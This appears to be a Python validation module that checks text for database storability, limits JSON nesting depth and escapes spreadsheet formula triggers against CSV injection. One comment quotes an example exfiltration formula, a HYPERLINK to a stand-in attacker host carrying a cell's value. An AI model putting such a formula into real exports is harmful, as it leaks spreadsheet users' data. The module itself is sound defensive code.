"""Text a database can store: no NUL (PostgreSQL refuses it) and no lone surrogate (it has no UTF-8 form); how
deep a decoded JSON body may nest; and text a spreadsheet shows as text, never runs as a formula."""
from __future__ import annotations

from collections.abc import Mapping

# OWASP, CSV injection: a cell starting with one of these is a formula (or becomes one) in Excel, WPS and
# LibreOffice, e.g. a policy named =HYPERLINK("http://evil.example/?x="&A1,"点击查看").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# No body of ours nests more than a few levels; a deeper one is an attack on the decoder or the validators.
MAX_JSON_DEPTH = 32


def unstorable(value) -> bool:
    """True when `value`, or any string inside a mapping or list of it, could not be stored."""
    if isinstance(value, str):
        try:
            value.encode("utf-8")
        except UnicodeEncodeError:
            return True
        return "\x00" in value
    if isinstance(value, Mapping):
        return any(unstorable(key) or unstorable(item) for key, item in value.items())
    if isinstance(value, list | tuple):
        return any(unstorable(item) for item in value)
    return False


def nested_deeper_than(value, limit: int) -> bool:
    """True when mappings and lists inside `value` nest more than `limit` levels (a scalar is level 0).

    Walks with its own stack: a body nested thousands deep must not exhaust Python's recursion limit here."""
    stack = [(value, 0)]
    while stack:
        item, depth = stack.pop()
        if isinstance(item, Mapping):
            children = item.values()
        elif isinstance(item, list | tuple):
            children = item
        else:
            continue
        if depth == limit:
            return True
        stack.extend((child, depth + 1) for child in children)
    return False


def spreadsheet_text(value: str) -> str:
    """`value` as a spreadsheet shows it and never evaluates it: a leading quote before a formula trigger."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
